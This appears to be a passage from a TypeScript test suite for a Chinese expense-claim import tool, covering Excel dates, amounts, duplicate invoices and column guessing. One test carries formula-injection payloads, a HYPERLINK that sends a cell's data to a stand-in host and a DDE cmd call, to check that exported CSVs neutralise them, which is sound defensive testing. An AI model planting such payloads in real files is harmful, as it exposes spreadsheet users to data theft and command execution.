  const p = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'formulas.xlsx', base64: Buffer.from(await wb.xlsx.writeBuffer()).toString('base64') }));
  assert.ok(!JSON.stringify(p.sample).includes('[object Object]'), JSON.stringify(p.sample));
  assert.deepEqual(p.sample[3]!.values, ['陈明', '2026-10-04', '厦门市中医院', '针灸', '12.5']);
  assert.equal(p.accepted, 1);
  const says = Object.fromEntries(p.rejected.map((r) => [r.row, r.problems.map((x) => `${x.field}:${x.message['zh-CN']}`)]));
  assert.deepEqual(says, {
    2: ['amount:金额（E 列）：公式没有计算结果，请在 Excel 中打开并保存后再导入'],
    3: ['date:就诊日期（B 列）是错误值 #N/A，请在 Excel 中改正后再导入'],
    4: ['amount:金额（E 列）是错误值 #DIV/0!，请在 Excel 中改正后再导入'],
    6: ['amount:金额（E 列）：公式没有计算结果，请在 Excel 中打开并保存后再导入'],
    7: ['amount:金额（E 列）：公式没有计算结果，请在 Excel 中打开并保存后再导入'],
  });
  s.close();
});

/**
 * A workbook as Chinese Excel saves one: date cells in its built-in formats, named by numFmtId
 * alone (no <numFmt> entry), each number cell a date serial with style `s` = 1 + its index in
 * `ids` (style 0 is the default, General).
 */
async function builtInFormatWorkbook(ids: number[], serial: (i: number) => number): Promise<Buffer> {
  const yazl = (await import('yazl')).default;
  const zip = new yazl.ZipFile();
  const add = (name: string, xml: string) => zip.addBuffer(Buffer.from(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n${xml}`), name);
  const str = (ref: string, t: string) => `<c r="${ref}" t="inlineStr"><is><t>${t}</t></is></c>`;
  add('[Content_Types].xml', '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/></Types>');
  add('_rels/.rels', '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>');
  add('xl/workbook.xml', '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="明细" sheetId="1" r:id="rId1"/></sheets></workbook>');
  add('xl/_rels/workbook.xml.rels', '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>');
  add('xl/styles.xml', `<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><fonts count="1"><font><sz val="11"/><name val="等线"/></font></fonts><fills count="1"><fill><patternFill patternType="none"/></fill></fills><borders count="1"><border/></borders><cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs><cellXfs count="${ids.length + 1}"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>${ids.map((id) => `<xf numFmtId="${id}" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>`).join('')}</cellXfs></styleSheet>`);
  const rows = [`<row r="1">${str('A1', '姓名')}${str('B1', '日期')}${str('C1', '医疗机构')}${str('D1', '金额')}</row>`,
    ...ids.map((id, i) => `<row r="${i + 2}">${str(`A${i + 2}`, `王芳${id}`)}<c r="B${i + 2}" s="${i + 1}"><v>${serial(i)}</v></c>${str(`C${i + 2}`, '厦门市中医院')}<c r="D${i + 2}"><v>10</v></c></row>`)];
  add('xl/worksheets/sheet1.xml', `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows.join('')}</sheetData></worksheet>`);
  zip.end();
  const chunks: Buffer[] = [];
  for await (const c of zip.outputStream) chunks.push(c as Buffer);
  return Buffer.concat(chunks);
}

test('XLSX dates in Chinese Excel\'s built-in date formats (numFmtId 27–31, 36, 50–54, 57, 58, as 14) are read as dates; its built-in time formats are not', async () => {
  const s = makeService();
  const dates = [14, 27, 28, 29, 30, 31, 36, 50, 51, 52, 53, 54, 57, 58];
  const serial = (i: number) => (Date.UTC(2024, 2, 2 + i) - Date.UTC(1899, 11, 30)) / 86_400_000; // 2024-03-02 is 45353
  const p = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'builtin-dates.xlsx', base64: (await builtInFormatWorkbook([...dates, 32], serial)).toString('base64') }));
  assert.deepEqual(p.sample.slice(0, dates.length).map((r) => r.values[1]), dates.map((_, i) => `2024-03-${String(2 + i).padStart(2, '0')}`));
  assert.equal(p.accepted, dates.length);
  // 32 is h时mm分 (a time): Excel does not show it as a date, nor is it read as one.
  assert.deepEqual(p.rejected.map((r) => [r.row, r.problems.map((x) => x.field)]), [[dates.length + 2, ['date']]]);
  s.close();
});

test('an amount of 0 is refused: an expense of 0 元 is not claimable', async () => {
  const s = makeService();
  const a = idNumber('35020319800101001');
  const csv = ['姓名,身份证号,日期,医疗机构,金额', ...['0', '0.00', '０元', '¥0.0', '0.01'].map((m) => `陈明,${a},2026-10-01,厦门市中医院,${m}`)].join('\r\n');
  const p = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'zero.csv', base64: Buffer.from(csv).toString('base64') }));
  assert.equal(p.accepted, 1);
  assert.equal(p.totalFen, 1);
  assert.deepEqual(p.rejected.map((r) => [r.row, r.problems.map((x) => x.field)]), [[2, ['amount']], [3, ['amount']], [4, ['amount']], [5, ['amount']]]);
  assert.equal(p.rejected[1]!.problems[0]!.message['zh-CN'], '金额“0.00”为 0：0 元的费用不能报销');
  s.close();
});

test('a date before the birth date in the row\'s ID number is refused, naming the birth date', async () => {
  const s = makeService();
  const baby = idNumber('35020320260501001'); // born 2026-05-01
  const csv = `姓名,身份证号,日期,医疗机构,金额\r\n陈小宝,${baby},2026-04-30,厦门市妇幼保健院,10\r\n陈小宝,${baby},2026-05-01,厦门市妇幼保健院,20\r\n`;
  const p = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'baby.csv', base64: Buffer.from(csv).toString('base64') }));
  assert.equal(p.accepted, 1);
  assert.deepEqual(p.rejected.map((r) => [r.row, r.problems.map((x) => x.message['zh-CN'])]), [[2, ['日期 2026-04-30 早于身份证号中的出生日期 2026-05-01']]]);
  s.close();
});

test('an item or institution wrapped in its cell with Alt+Enter is one line, joined with a space; a name or ID number over two lines is still refused', async () => {
  const s = makeService();
  const a = idNumber('35020319800101001');
  const csv = `姓名,身份证号,日期,医疗机构,项目,金额\r\n陈明,${a},2026-10-01,"厦门大学附属\r\n第一医院","西药\n  中药\n\n检查",10\r\n"林\n晓",${idNumber('35020319800101002')},2026-10-02,厦门市中医院,针灸,10\r\n陈明,${a},2026-10-03,厦门市中医院,"针灸\t推拿",10\r\n`;
  const base64 = Buffer.from(csv).toString('base64');
  const p = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'wrapped.csv', base64 }));
  assert.deepEqual(p.rejected.map((r) => [r.row, r.problems.map((x) => x.field)]), [[3, ['name']], [4, ['item']]]);
  const r = await ok<ImportResult>(s.dispatch('import.commit', { fileName: 'wrapped.csv', base64, mapping: p.mapping, category: 'outage', skipRejected: true }));
  const c = await ok<CaseRecord>(s.dispatch('cases.get', { number: r.cases[0]!.number }));
  assert.deepEqual(c.case.expenses.map((e) => [e.institution, e.item]), [['厦门大学附属 第一医院', '西药 中药 检查']]);
  s.close();
});

test('the rows left out, downloaded as a CSV (the import screen\'s), keep every cell: a row too wide is refused again on re-import, never taken with its amount cut to 1.00', async () => {
  const s = makeService();
  const [a, b, c] = [idNumber('35020619700303001'), idNumber('35021119750404002'), idNumber('35021319820505003')];
  const csv = `姓名,身份证号,工作单位,日期,医疗机构,金额\r\n许仙,${a},厦门某某有限公司,2024-07-01,厦门市第三医院,100.00\r\n白素贞,${b},厦门某某有限公司,2024-07-32,厦门市第三医院,200.00\r\n小青,${c},厦门某某有限公司,2024-07-03,厦门市第三医院,1,234.50\r\n`;
  const p = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'hr-july.csv', base64: Buffer.from(csv).toString('base64') }));
  const r = await ok<ImportResult>(s.dispatch('import.commit', { fileName: 'hr-july.csv', base64: Buffer.from(csv).toString('base64'), mapping: p.mapping, category: 'outage', skipRejected: true }));
  assert.equal(r.imported, 1);
  const download = skippedRowsCsv(p.columns, r.skipped, { row: '行号', problems: '不能导入的原因' }, (m) => m['zh-CN']);
  const lines = download.replace(/^\ufeff/, '').split('\r\n');
  assert.equal(lines[0], '行号,不能导入的原因,姓名,身份证号,工作单位,日期,医疗机构,金额');
  assert.equal(lines[2], `4,该行有 7 列，表头只有 6 列,小青,\t${c},厦门某某有限公司,2024-07-03,厦门市第三医院,1,234.50`, 'every cell as written; the ID number kept as text for Excel');
  // The user fixes 白素贞's date and imports the file again: her row is taken, with its ID
  // number trimmed of the tab; 小青's is refused again, not taken at 1.00 元.
  const fixed = download.replace(',2024-07-32,', ',2024-07-31,'); // the cell, not the reason that quotes it
  const again = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'fixed.csv', base64: Buffer.from(fixed).toString('base64') }));
  assert.equal(again.encoding, 'utf-8');
  assert.deepEqual(again.columns, ['行号', '不能导入的原因', '姓名', '身份证号', '工作单位', '日期', '医疗机构', '金额']);
  assert.equal(again.accepted, 1);
  assert.equal(again.totalFen, 20000);
  assert.deepEqual(again.rejected.map((x) => [x.row, x.problems.map((q) => q.message['zh-CN'])]), [[3, ['该行有 9 列，表头只有 8 列']]]);
  const done = await ok<ImportResult>(s.dispatch('import.commit', { fileName: 'fixed.csv', base64: Buffer.from(fixed).toString('base64'), mapping: again.mapping, category: 'outage', skipRejected: true }));
  const stored = s.db.prepare(`SELECT p.id_number AS id FROM cases c JOIN people p ON p.id = c.claimant_id WHERE c.number = ?`).get(done.cases[0]!.number) as { id: string };
  assert.equal(stored.id, b);
  s.close();
});

test('the rows left out CSV writes a cell that starts like a formula (=HYPERLINK, =cmd|…, @SUM, -1) as text with a leading \', as every CSV ClaimDesk writes; the re-import takes the mark off again', async () => {
  // skippedRowsCsv alone: text cells of an employee's sheet, a header and a reason quoting it.
  const id = idNumber('35020319800101123');
  const rejection = (row: number, message: string, values: string[]) => ({ row, values, problems: [{ field: 'amount' as const, message: { 'zh-CN': message, en: message } }] });
  const unit = skippedRowsCsv(['姓名', '身份证号', '医疗机构', '金额', '=项目'], [
    rejection(2, '金额“abc”应以元为单位、最多两位小数', ['张三', id, '厦门市中医院', 'abc', '=HYPERLINK("http://evil.example/?"&A2,"点此查看")']),
    rejection(3, '+列名 reason', ['李四', id, "=cmd|' /C calc'!A0", '-1', '@SUM(1+1)']),
    rejection(4, 'x', ['\t王五', id, "'已有引号", '+12', '\r1']),
  ], { row: '行号', problems: '原因' }, (m) => m['zh-CN']);
  assert.deepEqual(unit.replace(/^\ufeff/, '').split('\r\n'), [
    "行号,原因,姓名,身份证号,医疗机构,金额,'=项目",
    `2,金额“abc”应以元为单位、最多两位小数,张三,\t${id},厦门市中医院,abc,"'=HYPERLINK(""http://evil.example/?""&A2,""点此查看"")"`,
    `3,'+列名 reason,李四,\t${id},'=cmd|' /C calc'!A0,'-1,'@SUM(1+1)`,
    `4,x,'\t王五,\t${id},'已有引号,'+12,"'\r1"`,
    '',
  ]);

  // The tester's file: text cells (not formulas) in an XLSX, both rows refused for their amount.
  const s = makeService();
  const [a, b] = [idNumber('35020319800101123'), idNumber('35020319900505246')];
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('明细');
  ws.addRow(['姓名', '身份证号', '就诊日期', '医疗机构', '金额', '项目']);
  ws.addRow(['张三', a, '2024-07-01', '厦门市中医院', 'abc', '=HYPERLINK("http://evil.example/?"&A2,"点此查看")']);
  ws.addRow(['李四', b, '2024-07-02', "=cmd|' /C calc'!A0", '-1', '@SUM(1+1)']);
  const xlsx = { fileName: 'formula-text.xlsx', base64: Buffer.from(await wb.xlsx.writeBuffer()).toString('base64') };
  const p = await ok<ImportPreview>(s.dispatch('import.preview', xlsx));
  assert.deepEqual(p.rejected.map((r) => r.row), [2, 3]);
  const download = skippedRowsCsv(p.columns, p.rejected, { row: '行号', problems: '不能导入的原因' }, (m) => m['zh-CN']);
  // No line of it has a cell Excel would run: each cell starting with = + - @ carries the '.
  const cells = Papa.parse<string[]>(download.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data.flat();
  assert.deepEqual(cells.filter((c) => /^[=+\-@]/.test(c)), []);
  assert.ok(cells.includes("'=cmd|' /C calc'!A0") && cells.includes("'@SUM(1+1)") && cells.includes("'-1"));
  // The clerk fixes the amounts and imports the file back: the texts are the employee's again,
  // the mark gone (as the ID number's tab is), and an amount still '-1 would be refused as -1.
  const negative = download.replace(',abc,', ',12.50,');
  const refused = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'negative.csv', base64: Buffer.from(negative).toString('base64') }));
  assert.deepEqual(refused.rejected.map((r) => r.problems.map((x) => x.message['zh-CN'])), [['金额“-1”是负数：退费请不要填在报销明细里']]);
  const fixed = download.replace(',abc,', ',12.50,').replace(",'-1,", ',30.00,');
  const again = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'fixed.csv', base64: Buffer.from(fixed).toString('base64') }));
  assert.equal(again.accepted, 2, JSON.stringify(again.rejected));
  const done = await ok<ImportResult>(s.dispatch('import.commit', { fileName: 'fixed.csv', base64: Buffer.from(fixed).toString('base64'), mapping: again.mapping, category: 'outage' }));
  const stored = (await Promise.all(done.cases.map((c) => ok<CaseRecord>(s.dispatch('cases.get', { number: c.number })))))
    .map((c) => [c.case.claimant.idNumber, c.case.expenses[0]!.institution, c.case.expenses[0]!.item, c.case.expenses[0]!.amountFen]);
  assert.deepEqual(stored.sort(), [
    [a, '厦门市中医院', '=HYPERLINK("http://evil.example/?"&A2,"点此查看")', 1250],
    [b, "=cmd|' /C calc'!A0", '@SUM(1+1)', 3000],
  ].sort());
  s.close();
});

const csvOf = (fileName: string, ...lines: string[]) => ({ fileName, base64: Buffer.from(lines.join('\r\n')).toString('base64') });

test('a newborn\'s receipts (张丽之子) go into the parent\'s case with the voucher name kept; another name (张丽丽) is refused without talking of an ID number', async () => {
  const s = makeService();
  const c = await ok<CaseRecord>(s.dispatch('cases.create', { category: 'newborn', claimant: { name: '张丽', idNumber: idNumber('35020319900512042') } }));
  const sheet = csvOf('newborn.csv', '姓名,日期,医疗机构,项目,金额',
    '张丽之子,2026-02-05,厦门市妇幼保健院,新生儿检查,120.00',
    '张丽,2026-02-06,厦门市妇幼保健院,产后检查,80.00',
    '张丽丽,2026-02-07,厦门市妇幼保健院,产后检查,30.00',
    '张丽之女（二）,2026-02-08,厦门市妇幼保健院,新生儿检查,10.00');
  const p = await ok<ImportPreview>(s.dispatch('import.preview', { ...sheet, number: c.number }));
  assert.equal(p.accepted, 3, JSON.stringify(p.rejected));
  assert.deepEqual(p.rejected.map((r) => [r.row, r.problems.map((x) => x.message['zh-CN'])]), [[4, ['这一行是张丽丽的费用，该案件的参保人是张丽']]]);
  await ok<ImportResult>(s.dispatch('import.commit', { ...sheet, mapping: p.mapping, number: c.number, skipRejected: true }));
  const rec = await ok<CaseRecord>(s.dispatch('cases.get', { number: c.number }));
  assert.deepEqual(rec.case.expenses.map((e) => [e.item, e.nameOnVoucher]), [['新生儿检查', '张丽之子'], ['产后检查', undefined], ['新生儿检查', '张丽之女（二）']]);
  s.close();
});

test('an invoice is one person\'s: the same invoice for two claimants is refused in the sheet and against the cases', async () => {
  const s = makeService();
  const yang = idNumber('35020319910101011');
  const long = idNumber('35020319920202022');
  const header = '姓名,身份证号,票据代码,票据号码,日期,医疗机构,金额';
  const sheet = csvOf('dupinv.csv', header,
    `杨过,${yang},35010124,0000099999,2026-08-01,厦门市中医院,300.00`,
    `小龙女,${long},35010124,0000099999,2026-08-01,厦门市中医院,300.00`,
    `杨过,${yang},35010124,99999,2026-08-02,厦门市中医院,300.00`);
  const p = await ok<ImportPreview>(s.dispatch('import.preview', sheet));
  assert.equal(p.accepted, 1);
  assert.deepEqual(p.rejected.map((r) => [r.row, r.problems.map((x) => x.message['zh-CN'])]), [
    [3, ['这张发票在第 2 行已是“杨过”的：一张发票只能由一个人报销']],
    [4, ['这张发票在第 2 行已有']],
  ]);
  const done = await ok<ImportResult>(s.dispatch('import.commit', { ...sheet, mapping: p.mapping, category: 'trip', skipRejected: true }));
  // 小龙女 alone, in a later sheet (the number as a number cell, zeros dropped): refused naming 杨过's case.
  const later = await ok<ImportPreview>(s.dispatch('import.preview', csvOf('later.csv', header, `小龙女,${long},35010124,99999,2026-08-01,厦门市中医院,300.00`)));
  assert.equal(later.accepted, 0);
  assert.equal(later.rejected[0]!.problems[0]!.message['zh-CN'], `这张发票已在“杨过”的案件 ${done.cases[0]!.number} 中：一张发票只能由一个人报销`);
  // Into an existing case of 小龙女 too.
  const c = await ok<CaseRecord>(s.dispatch('cases.create', { category: 'trip', claimant: { name: '小龙女', idNumber: long } }));
  const into = await ok<ImportPreview>(s.dispatch('import.preview', { ...csvOf('into.csv', '票据代码,票据号码,日期,医疗机构,金额', '35010124,0000099999,2026-08-01,厦门市中医院,300.00'), number: c.number }));
  assert.equal(into.accepted, 0);
  assert.match(into.rejected[0]!.problems[0]!.message['zh-CN'], /杨过/);
  s.close();
});

test('the same sheet committed twice (new confirmation each time) does not silently make a second case: its lines are marked as already in case X', async () => {
  const s = makeService();
  const guo = idNumber('35021319660606006');
  const sheet = csvOf('hr-june.csv', '姓名,身份证号,工作单位,日期,医疗机构,项目,金额',
    `郭靖,${guo},厦门某某有限公司,2026-06-01,厦门市仙岳医院,门诊,150.00`,
    `郭靖,${guo},厦门某某有限公司,2026-06-08,厦门市仙岳医院,门诊,150.00`);
  const first = await ok<ImportPreview>(s.dispatch('import.preview', sheet));
  assert.equal(first.accepted, 2);
  const made = await ok<ImportResult>(s.dispatch('import.commit', { ...sheet, mapping: first.mapping, category: 'trip', requestId: 'confirm-0001' }));
  const number = made.cases[0]!.number;
  const again = await ok<ImportPreview>(s.dispatch('import.preview', sheet));
  assert.equal(again.accepted, 0);
  assert.deepEqual(again.rejected.map((r) => [r.row, r.duplicateOf]), [[2, { case: number }], [3, { case: number }]]);
  assert.match(again.rejected[0]!.problems[0]!.message['zh-CN'], new RegExp(`与案件 ${number} 中已有的一行相同`));
  // A new confirmation: nothing to import unless the user chooses to import the repeats.
  const refused = await s.dispatch('import.commit', { ...sheet, mapping: first.mapping, category: 'trip', requestId: 'confirm-0002' });
  assert.equal(refused.ok, false);
  const skipped = await s.dispatch('import.commit', { ...sheet, mapping: first.mapping, category: 'trip', skipRejected: true, requestId: 'confirm-0003' });
  assert.equal(skipped.ok, false);
  assert.equal(count(s, 'cases'), 1);
  const chosen = await ok<ImportResult>(s.dispatch('import.commit', { ...sheet, mapping: first.mapping, category: 'trip', importDuplicates: true, requestId: 'confirm-0004' }));
  assert.equal(chosen.imported, 2);
  assert.equal(count(s, 'cases'), 2);
  // Into the case itself (no ID column: the case's claimant), and a row repeated within the sheet.
  const into = await ok<ImportPreview>(s.dispatch('import.preview', { ...csvOf('into.csv', '日期,医疗机构,金额', '2026-06-01,厦门市仙岳医院,150', '2026-06-15,厦门市仙岳医院,20', '2026-06-15,厦门市仙岳医院,20.00'), number }));
  assert.equal(into.accepted, 1);
  assert.deepEqual(into.rejected.map((r) => [r.row, r.duplicateOf]), [[2, { case: number }], [4, { row: 3 }]]);
  assert.equal(into.rejected[1]!.problems[0]!.message['zh-CN'], '与第 3 行相同（同一人、日期、医疗机构、金额），可能重复填写');
  // A sheet without ID numbers: known by name among claimants without one.
  const names = csvOf('names.csv', '姓名,日期,医疗机构,金额', '黄蓉,2026-06-03,厦门市中医院,15');
  await ok<ImportResult>(s.dispatch('import.commit', { ...names, mapping: { name: 0, date: 1, institution: 2, amount: 3 }, category: 'trip' }));
  const namesAgain = await ok<ImportPreview>(s.dispatch('import.preview', names));
  assert.equal(namesAgain.accepted, 0);
  s.close();
});

test('one employee, rows with and without the ID number: the rows without join the one ID the sheet has for the name, said in a notice; otherwise refused', async () => {
  const s = makeService();
  const zhou = idNumber('35020519790118001');
  const sheet = csvOf('split.csv', '姓名,身份证号,日期,医疗机构,金额',
    `周杰伦,${zhou},2026-03-02,厦门市中医院,1`,
    '周杰伦,,2026-03-03,厦门市中医院,2',
    '蔡依林,,2026-03-04,厦门市中医院,3',
    `王力宏,${idNumber('35020519760517001')},2026-03-05,厦门市中医院,4`,
    `王力宏,${idNumber('35020519760517002')},2026-03-06,厦门市中医院,5`,
    '王力宏,,2026-03-07,厦门市中医院,6');
  const p = await ok<ImportPreview>(s.dispatch('import.preview', sheet));
  assert.equal(p.claimants, 3);
  assert.deepEqual(p.notices.map((n) => [n.row, n.message['zh-CN']]), [[3, `没有填身份证号：按姓名归入第 2 行的“周杰伦”（${zhou}）`]]);
  assert.deepEqual(p.rejected.map((r) => [r.row, r.problems.map((x) => x.message['zh-CN'])]), [
    [4, ['缺少身份证号']],
    [7, ['缺少身份证号：表中“王力宏”有 2 个不同的身份证号，无法确定是哪一位']],
  ]);
  const r = await ok<ImportResult>(s.dispatch('import.commit', { ...sheet, mapping: p.mapping, category: 'trip', skipRejected: true }));
  const zhouCase = r.cases.find((c) => c.claimant === '周杰伦')!;
  assert.equal(zhouCase.lines, 2);
  assert.equal(r.cases.filter((c) => c.claimant === '周杰伦').length, 1);
  s.close();
});

test('a mapping set by hand is remembered once the sheet is checked with it, before any commit', async () => {
  const s = makeService();
  const id = idNumber('35020519750101001');
  const sheet = csvOf('odd.csv', '人员,证件,时间,看病地点,花费,备用', `周杰,${id},2026-05-01,厦门市海沧医院,10.00,x`, `吴敏,${id},2026-05-32,厦门市第三医院,20.00,y`);
  const mapping = { name: 0, idNumber: 1, date: 2, institution: 3, amount: 4 };
  assert.equal((await ok<ImportPreview>(s.dispatch('import.preview', sheet))).mappingSource, 'guessed');
  // A program checking a mapping of its own: nothing is written.
  await ok<ImportPreview>(s.dispatch('import.preview', { ...sheet, mapping }));
  assert.equal((await ok<ImportPreview>(s.dispatch('import.preview', sheet))).mappingSource, 'guessed');
  // The screen, after the user set it by hand: remembered, though the confirm is then refused.
  await ok<ImportPreview>(s.dispatch('import.preview', { ...sheet, mapping, remember: true }));
  assert.equal((await s.dispatch('import.commit', { ...sheet, mapping, category: 'trip' })).ok, false);
  const again = await ok<ImportPreview>(s.dispatch('import.preview', sheet));
  assert.equal(again.mappingSource, 'remembered');
  assert.deepEqual(again.mapping, mapping);
  assert.equal(count(s, 'cases'), 0);
  assert.equal(count(s, 'audit_events'), 0);
  s.close();
});

// The outside tester's files (tests/fixtures/import/tester): each defect with its own file.
const tester = (name: string) => ({ fileName: name, base64: fs.readFileSync(path.join(FIXTURES, 'tester', name)).toString('base64') });
const problemsOf = (p: ImportPreview) => p.rejected.map((r) => [r.row, r.problems.map((x) => x.message['zh-CN'])]);

test('an amount header in another unit (金额（分）, 金额(万元)) is never guessed; mapped by hand, every row is refused naming the unit; not remembered as 金额（元）', async () => {
  const s = makeService();
  const fen = await ok<ImportPreview>(s.dispatch('import.preview', tester('fen-header.csv')));
  assert.equal(fen.mapping.amount, undefined, '35650 分 was read as 35,650.00 元');
  assert.deepEqual(fen.missing, ['amount']);
  const byHand = await ok<ImportPreview>(s.dispatch('import.preview', { ...tester('fen-header.csv'), mapping: { ...fen.mapping, amount: 5 } }));
  assert.equal(byHand.accepted, 0);
  assert.deepEqual(problemsOf(byHand), [[2, ['表头“金额（分）”写明单位是分：请换算为元后再导入']]]);
  const wan = await ok<ImportPreview>(s.dispatch('import.preview', { ...tester('wanyuan-header.csv'), mapping: { name: 0, idNumber: 1, date: 2, institution: 3, item: 4, amount: 5 } }));
  assert.deepEqual(problemsOf(wan), [[2, ['表头“金额(万元)”写明单位是万元：请换算为元后再导入']]]);
  assert.equal((await s.dispatch('import.commit', { ...tester('wanyuan-header.csv'), mapping: { name: 0, idNumber: 1, date: 2, institution: 3, item: 4, amount: 5 }, category: 'trip', skipRejected: true })).ok, false);
  assert.equal(count(s, 'cases'), 0);
  for (const [header, unit] of [['金额（角）', '角'], ['金额/分', '分'], ['金额（单位：分）', '分'], ['费用总额万元', '万元']]) {
    const q = await ok<ImportPreview>(s.dispatch('import.preview', csvOf('u.csv', `姓名,日期,医院,${header}`, '陈明,2026-10-01,厦门市中医院,120')));
    assert.equal(q.mapping.amount, undefined, header);
    const m = await ok<ImportPreview>(s.dispatch('import.preview', { ...csvOf('u.csv', `姓名,日期,医院,${header}`, '陈明,2026-10-01,厦门市中医院,120'), mapping: { name: 0, date: 1, institution: 2, amount: 3 } }));
    assert.match(m.rejected[0]!.problems[0]!.message['zh-CN'], new RegExp(`单位是${unit}：请换算为元`), header);
  }
  // 元 stated, or nothing: read as before.
  const yuan = csvOf('y.csv', '姓名,身份证号码,就诊日期,就诊医院,费用项目,金额（元）', `郑晓东,350203198802150032,2026-10-08,厦门大学附属第一医院,胃镜检查,356.50`);
  const y = await ok<ImportPreview>(s.dispatch('import.preview', yuan));
  assert.equal(y.totalFen, 35650);
  // A mapping remembered for 金额（元） is not the one for 金额（分）: the header keys differ.
  await ok<ImportResult>(s.dispatch('import.commit', { ...yuan, mapping: y.mapping, category: 'trip' }));
  assert.equal((await ok<ImportPreview>(s.dispatch('import.preview', yuan))).mappingSource, 'remembered');
  const after = await ok<ImportPreview>(s.dispatch('import.preview', tester('fen-header.csv')));
  assert.equal(after.mappingSource, 'guessed');
  assert.equal(after.mapping.amount, undefined);
  s.close();
});

test('the header guess: a birth date is never the expense date; the invoice total beats the parts of the bill; two equally good columns are left to the user', async () => {
  const s = makeService();
  const birth = await ok<ImportPreview>(s.dispatch('import.preview', tester('birthdate-col.csv')));
  assert.equal(birth.columns[birth.mapping.date!], '就诊时间', 'lines were dated on the birthday');
  assert.deepEqual(birth.sample.map((r) => r.values[birth.mapping.date!]), ['2026-10-08', '2026-10-09']);
  const split = await ok<ImportPreview>(s.dispatch('import.preview', tester('paid-split.csv')));
  assert.equal(split.columns[split.mapping.amount!], '费用总额', 'the amount was the 个人自付金额');
  assert.equal(split.totalFen, 35650);
  assert.deepEqual(guessMapping(['出生日期', '姓名', '医院', '金额']), { name: 1, institution: 2, amount: 3 });
  assert.deepEqual(guessMapping(['个人自付金额', '医保统筹支付金额', '日期', '医院']), { date: 2, institution: 3 }, 'parts of the bill are mapped by hand if at all');
  assert.deepEqual(guessMapping(['Birth date', 'Date', 'Hospital', 'Amount']), { date: 1, institution: 2, amount: 3 });
  // 金额 beside 金额（旧）: the plain one; 就诊日期 beside 开票日期: neither, and the preview says which.
  const old = await ok<ImportPreview>(s.dispatch('import.preview', tester('hidden-col.xlsx')));
  assert.equal(old.columns[old.mapping.amount!], '金额');
  const two = await ok<ImportPreview>(s.dispatch('import.preview', csvOf('two.csv', '姓名,就诊日期,开票日期,医院,金额,金额', '陈明,2026-10-01,2026-10-03,厦门市中医院,10,10')));
  assert.equal(two.mapping.date, undefined);
  assert.equal(two.mapping.amount, undefined);
  assert.deepEqual(two.ambiguous, { date: [1, 2], amount: [4, 5] });
  assert.deepEqual(two.missing, ['date', 'amount']);
  // Once the user chooses, the field is no longer listed as open.
  const chosen = await ok<ImportPreview>(s.dispatch('import.preview', { ...csvOf('two.csv', '姓名,就诊日期,开票日期,医院,金额,金额', '陈明,2026-10-01,2026-10-03,厦门市中医院,10,10'), mapping: { name: 0, date: 1, institution: 3 } }));
  assert.deepEqual(chosen.ambiguous, { amount: [4, 5] });
  s.close();
});

test('XLSX sheets: never a hidden one by default; the saved tab or the sheet whose header names fields; any sheet by name; an unknown name is refused', async () => {
  const s = makeService();
  const hidden = await ok<ImportPreview>(s.dispatch('import.preview', tester('hidden-first.xlsx')));
  assert.equal(hidden.sheet, '十月', 'the hidden 旧数据 was imported');
  assert.deepEqual(hidden.sheets, ['十月']);
  assert.equal(hidden.rows, 3);
  const readme = await ok<ImportPreview>(s.dispatch('import.preview', tester('readme-first.xlsx')));
  assert.equal(readme.sheet, '明细');
  assert.deepEqual(readme.sheets, ['填表说明', '明细']);
  assert.equal(readme.accepted, 3);
  const active = await ok<ImportPreview>(s.dispatch('import.preview', tester('active-second.xlsx')));
  assert.equal(active.sheet, '十月');
  assert.deepEqual(active.sheets, ['九月', '十月']);
  // The user picks another sheet: the preview reads it, and so does the commit.
  const sept = await ok<ImportPreview>(s.dispatch('import.preview', { ...tester('active-second.xlsx'), sheet: '九月' }));
  assert.equal(sept.sheet, '九月');
  assert.deepEqual(sept.sample.map((r) => r.values[0]), ['蔡雅琪']);
  const done = await ok<ImportResult>(s.dispatch('import.commit', { ...tester('active-second.xlsx'), sheet: '九月', mapping: sept.mapping, category: 'trip' }));
  assert.deepEqual(done.cases.map((c) => [c.claimant, c.lines]), [['蔡雅琪', 1]]);
  const explicitHidden = await ok<ImportPreview>(s.dispatch('import.preview', { ...tester('hidden-first.xlsx'), sheet: '旧数据' }));
  assert.equal(explicitHidden.sheet, '旧数据', 'named by the user: read');
